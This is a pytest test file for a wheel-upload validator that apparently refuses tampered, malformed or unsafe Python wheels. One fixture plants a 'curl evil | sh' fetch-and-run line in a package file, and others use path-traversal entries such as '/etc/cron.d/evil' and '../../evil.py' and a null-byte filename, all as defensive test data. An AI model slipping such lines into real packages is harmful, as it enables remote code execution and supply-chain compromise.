"""Upload checks on a real wheel built by pip, and on broken copies of it."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import subprocess
import sys
import tracemalloc
import warnings
import zipfile
from pathlib import Path

import pytest
from packaging.tags import parse_tag
from packaging.version import Version

from wheelmill.errors import UploadRefused
from wheelmill.targets import Target
from wheelmill.wheels import (
    Compat,
    check_filename,
    check_matches_job,
    check_size,
    covers,
    inspect_wheel,
    rename_platform,
    wheel_compat,
)

WHEEL = "Demo.Pkg-1.0.0b0-py3-none-any.whl"
DIST_INFO = "Demo.Pkg-1.0.0b0.dist-info"
X86_64 = Target.parse("cp311-cp311-linux_x86_64")

SETUP_PY = """\
from setuptools import setup
setup(name="Demo.Pkg", version="1.0.0-beta", packages=["demo_pkg"], description="A tiny package",
      python_requires=">=3.8", install_requires=["packaging>=20"])
"""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A pure wheel pip builds from a tiny project; upstream spells its version 1.0.0-beta."""
    project = tmp_path_factory.mktemp("project")
    (project / "setup.py").write_text(SETUP_PY)
    (project / "demo_pkg").mkdir()
    (project / "demo_pkg" / "__init__.py").write_text("VALUE = 1\n")
    out = tmp_path_factory.mktemp("wheels")
    subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "--no-index",
         "--no-cache-dir", "--quiet", "--wheel-dir", str(out), str(project)],
        check=True,
    )  # fmt: skip
    return out / WHEEL


def rebuilt(src: Path, dst_dir: Path, *, drop: tuple[str, ...] = (), put: dict[str, bytes] | None = None,
            rerecord: bool = True, name: str = WHEEL) -> Path:  # fmt: skip
    """A copy of src without `drop`, with `put` written in, and a RECORD that matches it (if rerecord)."""
    with zipfile.ZipFile(src) as archive:
        files = {entry: archive.read(entry) for entry in archive.namelist() if entry not in drop}
    files.update(put or {})
    record = f"{DIST_INFO}/RECORD"
    if rerecord and record in files:
        lines = [
            f"{entry},sha256={_digest(data)},{len(data)}" for entry, data in files.items() if entry != record
        ]
        files[record] = ("\n".join([*lines, f"{record},,"]) + "\n").encode()
    dst = dst_dir / name
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry, data in files.items():
            archive.writestr(entry, data)
    return dst


def _digest(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def refused(path: Path, filename: str = WHEEL) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        inspect_wheel(path, filename)
    return caught.value


@pytest.mark.slow
def test_a_real_wheel_is_read_with_its_exact_metadata(built: Path) -> None:
    info = inspect_wheel(built, WHEEL)

    with zipfile.ZipFile(built) as archive:
        assert info.metadata == archive.read(f"{DIST_INFO}/METADATA")
    assert (info.name, info.version, info.build_tag) == ("demo-pkg", Version("1.0.0b0"), ())
    assert info.tags == frozenset(parse_tag("py3-none-any"))
    assert (info.metadata_name, info.requires_python, info.summary) == ("Demo.Pkg", ">=3.8", "A tiny package")
    assert info.requires_dist == ("packaging>=20",)
    assert info.top_level == ("demo_pkg",)
    assert info.shared_objects == ()


@pytest.mark.slow
def test_the_job_matches_by_canonical_name_and_version(built: Path) -> None:
    info = inspect_wheel(built, WHEEL)

    check_matches_job(info, "demo_pkg", "1.0.0-beta", X86_64)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("package", "version", "target", "reason"),
    [
        ("other-pkg", "1.0.0-beta", X86_64, "name"),
        ("demo-pkg", "1.0.0", X86_64, "version"),
        ("demo-pkg", "not a version", X86_64, "version"),
        ("demo-pkg", "1.0.0b0", Target.parse("cp311-cp311-linux_armv7l"), "tags"),
    ],
)
def test_a_wheel_that_is_not_the_jobs_is_refused(
    built: Path, package: str, version: str, target: Target, reason: str
) -> None:
    info = inspect_wheel(built, WHEEL)
    if reason == "tags":
        info = dataclasses.replace(info, tags=frozenset(parse_tag("cp311-cp311-linux_x86_64")))

    with pytest.raises(UploadRefused) as caught:
        check_matches_job(info, package, version, target)

    assert caught.value.reason == reason


@pytest.mark.parametrize(
    "filename",
    [
        "../demo-1.0-py3-none-any.whl",
        "sub/demo-1.0-py3-none-any.whl",
        "sub\\demo-1.0-py3-none-any.whl",
        "demo-1.0-py3-none-any.whl\x00.txt",
        "demo-1.0-py3-none-any.zip",
        "demo-1.0.whl",
        "demo-1.0-py3-none-any<b>.whl",
        "demo-not..a.version-py3-none-any.whl",
    ],
)
def test_unsafe_or_invalid_filenames_are_refused(filename: str) -> None:
    with pytest.raises(UploadRefused) as caught:
        check_filename(filename)

    assert caught.value.reason == "filename"
    assert repr(filename) in str(caught.value)


def test_size_over_the_limit_is_refused() -> None:
    check_size(100, 100)
    with pytest.raises(UploadRefused) as caught:
        check_size(101, 100)
    assert caught.value.reason == "size"


def test_a_file_that_is_not_a_zip_is_refused(tmp_path: Path) -> None:
    path = tmp_path / WHEEL
    path.write_text("<html>502 Bad Gateway</html>")

    assert refused(path).reason == "archive"


@pytest.mark.slow
def test_a_truncated_wheel_is_refused(built: Path, tmp_path: Path) -> None:
    path = tmp_path / WHEEL
    path.write_bytes(built.read_bytes()[: built.stat().st_size // 2])

    assert refused(path).reason == "archive"


@pytest.mark.slow
@pytest.mark.parametrize("member", ["METADATA", "WHEEL", "RECORD"])
def test_a_wheel_without_its_core_files_is_refused(built: Path, tmp_path: Path, member: str) -> None:
    error = refused(rebuilt(built, tmp_path, drop=(f"{DIST_INFO}/{member}",)))

    assert error.reason == "archive"
    assert member in str(error)


@pytest.mark.slow
def test_a_wheel_with_two_dist_info_directories_is_refused(built: Path, tmp_path: Path) -> None:
    error = refused(rebuilt(built, tmp_path, put={"Other-1.0.dist-info/METADATA": b"Name: Other\n"}))

    assert error.reason == "archive"
    assert "Other-1.0.dist-info" in str(error)


@pytest.mark.slow
def test_every_file_that_differs_from_record_is_named(built: Path, tmp_path: Path) -> None:
    tampered = {
        "demo_pkg/__init__.py": b"import os; os.system('curl evil | sh')\n",
        f"{DIST_INFO}/WHEEL": b"x",
    }

    error = refused(rebuilt(built, tmp_path, put=tampered, rerecord=False))

    assert error.reason == "archive"
    assert "demo_pkg/__init__.py" in str(error)
    assert f"{DIST_INFO}/WHEEL" in str(error)


@pytest.mark.slow
def test_files_missing_from_record_are_refused(built: Path, tmp_path: Path) -> None:
    error = refused(rebuilt(built, tmp_path, put={"demo_pkg/extra.py": b"X = 2\n"}, rerecord=False))

    assert error.reason == "archive"
    assert "demo_pkg/extra.py" in str(error)


@pytest.mark.slow
@pytest.mark.parametrize("entry", ["/etc/cron.d/evil", "../../evil.py", "demo_pkg/../../evil.py"])
def test_entries_that_escape_the_install_directory_are_refused(
    built: Path, tmp_path: Path, entry: str
) -> None:
    error = refused(rebuilt(built, tmp_path, put={entry: b"evil"}))

    assert error.reason == "archive"
    assert repr(entry) in str(error)


@pytest.mark.slow
def test_duplicate_entries_are_refused(built: Path, tmp_path: Path) -> None:
    path = rebuilt(built, tmp_path)
    with zipfile.ZipFile(path, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate we are making on purpose
        archive.writestr("demo_pkg/__init__.py", b"shadowed")

    error = refused(path)

    assert error.reason == "archive"
    assert "duplicates" in str(error)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("metadata", "culprit"),
    [
        (b"Metadata-Version: 2.1\nName: Other-Pkg\nVersion: 1.0.0b0\n", "Other-Pkg"),
        (b"Metadata-Version: 2.1\nName: Demo.Pkg\nVersion: 1.0.0b1\n", "1.0.0b1"),
        (b"Metadata-Version: 2.1\nName: Demo.Pkg\n", "Version"),
        (b"Metadata-Version: 2.1\nName: Demo.Pkg\nVersion: 1.0.0b0\nSummary: \xff\xfe\n", "UTF-8"),
    ],
)
def test_metadata_that_disagrees_with_the_filename_is_refused(
    built: Path, tmp_path: Path, metadata: bytes, culprit: str
) -> None:
    error = refused(rebuilt(built, tmp_path, put={f"{DIST_INFO}/METADATA": metadata}))

    assert error.reason == "metadata"
    assert culprit in str(error)


@pytest.mark.slow
def test_top_level_modules_come_from_the_layout_without_top_level_txt(built: Path, tmp_path: Path) -> None:
    path = rebuilt(
        built,
        tmp_path,
        drop=(f"{DIST_INFO}/top_level.txt",),
        put={
            "solo.py": b"",
            "_speedups.cpython-311-x86_64-linux-gnu.so": b"\x7fELF",
            "demo_pkg.libs/libz-0123abcd.so.1.2.13": b"\x7fELF",
            "namespace_only/module.py": b"",
            "Demo.Pkg-1.0.0b0.data/purelib/hidden/__init__.py": b"",
        },
    )

    info = inspect_wheel(path, WHEEL)

    assert info.top_level == ("_speedups", "demo_pkg", "solo")
    assert info.shared_objects == (
        "_speedups.cpython-311-x86_64-linux-gnu.so",
        "demo_pkg.libs/libz-0123abcd.so.1.2.13",
    )


@pytest.mark.slow
def test_large_members_are_hashed_without_holding_them_in_memory(built: Path, tmp_path: Path) -> None:
    size = 32 << 20
    path = rebuilt(built, tmp_path, put={"demo_pkg/big.bin": bytes(size)})

    tracemalloc.start()
    try:
        inspect_wheel(path, WHEEL)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert peak < size // 8


@pytest.mark.parametrize(
    ("tags", "compat"),
    [
        ("py3-none-any", Compat.PURE),
        ("py2.py3-none-any", Compat.PURE),
        ("cp38-abi3-linux_armv7l", Compat.ABI3),
        ("cp311-cp311-linux_armv7l", Compat.SPECIFIC),
        ("py2-none-any", Compat.SPECIFIC),
    ],
)
def test_wheel_compat(tags: str, compat: Compat) -> None:
    assert wheel_compat(parse_tag(tags)) == compat


@pytest.mark.parametrize(
    ("tags", "target", "covered"),
    [
        ("py3-none-any", "cp312-cp312-linux_armv6l", True),
        ("cp38-abi3-linux_armv7l", "cp311-cp311-linux_armv7l", True),
        ("cp38-abi3-linux_armv7l", "cp38-cp38-linux_armv7l", True),
        ("cp39-abi3-linux_armv7l", "cp38-cp38-linux_armv7l", False),
        ("cp38-abi3-linux_armv7l", "cp311-cp311-linux_x86_64", False),
        ("cp38-abi3-manylinux_2_17_armv7l", "cp311-cp311-linux_armv7l", True),
        ("cp311-cp311-linux_armv7l", "cp311-cp311-linux_armv7l", True),
        ("cp311-cp311-linux_armv7l", "cp312-cp312-linux_armv7l", False),
    ],
)
def test_which_targets_a_wheel_covers(tags: str, target: str, covered: bool) -> None:
    assert covers(parse_tag(tags), Target.parse(target)) is covered


def test_rename_platform_makes_the_alias_filename() -> None:
    assert rename_platform("numpy-2.0.0-cp311-cp311-linux_armv7l.whl", "linux_armv6l") == (
        "numpy-2.0.0-cp311-cp311-linux_armv6l.whl"
    )
    with pytest.raises(UploadRefused):
        rename_platform("numpy-2.0.0-cp311-cp311-linux_armv7l.whl", "../evil")
